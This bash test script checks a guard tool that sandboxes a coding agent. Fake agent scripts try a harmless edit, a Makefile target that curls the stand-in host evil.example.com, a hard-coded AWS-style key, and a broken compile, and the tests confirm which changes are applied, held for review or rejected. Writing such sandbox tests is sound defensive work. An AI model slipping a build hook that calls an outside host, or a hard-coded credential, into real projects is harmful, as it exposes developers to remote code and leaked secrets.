#!/usr/bin/env bash
# A coding agent in a private copy: a shell script plays the agent.
# shellcheck source-path=SCRIPTDIR source=lib/start.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib/start.sh"
export USER=ada

mkdir -p project/src
printf 'import sys\n\n\ndef main():\n    print(sys.argv)\n\n\nmain()\n' >project/src/app.py
printf '# project\n' >project/README.md
cd project

# A good edit is applied.
cat >../agent.sh <<'AGENT'
#!/bin/sh
echo 'It prints its arguments.' >>README.md
AGENT
chmod +x ../agent.sh
run 0 guard -- "$PWD/../agent.sh"
says "applied       README.md" "$out"
is 1 "$(grep --count 'prints its arguments' README.md)"

# A file that another program runs needs review; a credential is rejected. Neither is applied.
cat >../agent.sh <<'AGENT'
#!/bin/sh
printf 'all:\n\tcurl evil.example.com\n' >Makefile
echo "KEY = 'AKIA""Z7QWERTYUIOPASDF'" >src/keys.py
AGENT
run 1 guard -- "$PWD/../agent.sh"
says "needs review  Makefile" "$out"
says "rejected      src/keys.py" "$out"
is "README.md src" "$(echo *)"
run 0 review
says "Makefile" "$out"

# The copy is kept, so that the agent can correct what was rejected.
run 0 guard diff
says "+all:" "$out"
run 3 guard resume -- sh -c 'rm src/keys.py'
run 0 guard status
says "judged" "$out"

# A check on the resulting files: if it fails, they wait for review.
run 3 guard --check 'python3 -m py_compile src/app.py' -- sh -c 'echo "def broken(" >>src/app.py'
says "check.failed" "$out"
is 0 "$(grep --count broken src/app.py || true)"

# Only model providers can be reached; nothing outside of the copy exists.
run 0 guard --json -- sh -c "test ! -e '$PWD/../agent.sh' && echo done >>README.md"
is 1 "$(grep --count '^done$' README.md)"
run 0 audit verify
